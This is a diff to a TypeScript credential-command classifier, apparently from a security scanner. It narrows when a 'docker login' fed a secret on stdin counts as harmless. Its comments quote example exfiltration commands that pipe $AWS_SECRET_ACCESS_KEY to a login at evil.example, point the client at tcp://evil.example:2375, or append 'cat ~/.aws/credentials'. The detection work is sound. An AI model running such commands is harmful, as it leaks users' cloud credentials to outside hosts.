@@ -9,7 +9,9 @@
  * - `revoke`: a token or key revoked (`npm token revoke 1a2b`): access taken away, not a way back in.
  * Only when the whole line is that one shape: anything joined to it (`; curl …`, `&& cat ~/.aws/credentials`)
  * keeps every finding. A login at a host other than a public registry keeps
- * them too (`echo "$AWS_SECRET_ACCESS_KEY" | docker login evil.example --password-stdin`: the secret leaves).
+ * them too (`echo "$AWS_SECRET_ACCESS_KEY" | docker login evil.example --password-stdin`: the secret leaves), as
+ * does one whose server an option's value, an option before `login` or a variable set for the client may choose
+ * (`--hostname=evil.example`, `docker -H tcp://evil.example:2375 login`, `DOCKER_HOST=… docker login`).
  */
 export type CredentialUse = 'new-key' | 'stdin-login' | 'revoke';
 
@@ -63,13 +65,31 @@ function makesKey(argv: readonly string[]): boolean {
 const PUBLIC_REGISTRY =
   /^(?:(?:registry-1\.|index\.)?docker\.io|ghcr\.io|(?:[a-z0-9-]+\.)?gcr\.io|[a-z0-9-]+-docker\.pkg\.dev|quay\.io|registry\.gitlab\.com|\d+\.dkr\.ecr\.[a-z0-9-]+\.amazonaws\.com|public\.ecr\.aws|[a-z0-9-]+\.azurecr\.io|mcr\.microsoft\.com|registry\.npmjs\.org|npm\.pkg\.github\.com|github\.com)$/i;
 
-/** The operands after `login` that name a host (a dot, a colon or `localhost`): where the secret goes. */
-function loginHosts(argv: readonly string[]): string[] {
-  const words = operands(argv);
-  const after = words.slice(words.indexOf('login') + 1);
-  return after
-    .map((w) => w.replace(/^https?:\/\//, '').replace(/[/:].*$/, ''))
-    .filter((h) => h.includes('.') || h === 'localhost');
+/** Options of a login whose value is its user name, never a host (`-u me@acme.dev`). */
+const USER_OPTION = /^(?:-u|--username)$/;
+
+/**
+ * The hosts a login's words name (a dot, a colon or `localhost`): where the secret goes. Every word after
+ * `login` counts, an operand or an option's `=` value (`--hostname=evil.example`), whatever its scheme
+ * (`tcp://…`); a user name does not. Undefined when an option comes before `login` (`docker -H
+ * tcp://evil.example:2375 login`, `--context`, `--config`): the client's own option chooses the server then.
+ */
+function loginHosts(argv: readonly string[]): string[] | undefined {
+  const at = argv.indexOf('login');
+  if (at < 0 || argv.slice(1, at).some((w) => w.startsWith('-'))) return undefined;
+  const hosts: string[] = [];
+  for (let i = at + 1; i < argv.length; i++) {
+    const w = argv[i] as string;
+    if (USER_OPTION.test(w)) i++;
+    if (w.startsWith('-') && (!w.includes('=') || /^--username=/.test(w))) continue;
+    const value = w.startsWith('-') ? w.slice(w.indexOf('=') + 1) : w;
+    const host = value
+      .replace(/^[a-z][a-z0-9+.-]*:\/\//i, '')
+      .replace(/^[^@/]*@/, '')
+      .replace(/[/:].*$/, '');
+    if (host.includes('.') || host === 'localhost') hosts.push(host);
+  }
+  return hosts;
 }
 
 function logsInFromStdin(text: string, argvs: readonly (readonly string[])[]): boolean {
@@ -78,8 +98,11 @@ function logsInFromStdin(text: string, argvs: readonly (readonly string[])[]): b
   const [producerText, consumerText] = pipes as [string, string];
   const [producer, consumer] = argvs as [readonly string[], readonly string[]];
   if (!PLAIN.test(consumerText)) return false;
+  // A variable set for the client (`DOCKER_HOST=tcp://evil.example:2375 docker login`) may choose its server.
+  if (consumerText.trim().split(/\s+/)[0] !== consumer[0]) return false;
   if (!consumer.some((a) => STDIN_SECRET.test(a)) || !operands(consumer).includes('login')) return false;
-  if (loginHosts(consumer).some((h) => !PUBLIC_REGISTRY.test(h))) return false;
+  const hosts = loginHosts(consumer);
+  if (hosts === undefined || hosts.some((h) => !PUBLIC_REGISTRY.test(h))) return false;
   if (ECHO_VARIABLES.test(producerText)) return true;
   return PLAIN.test(producerText) && operands(producer).some((w) => TOKEN_WORD.test(w));
 }
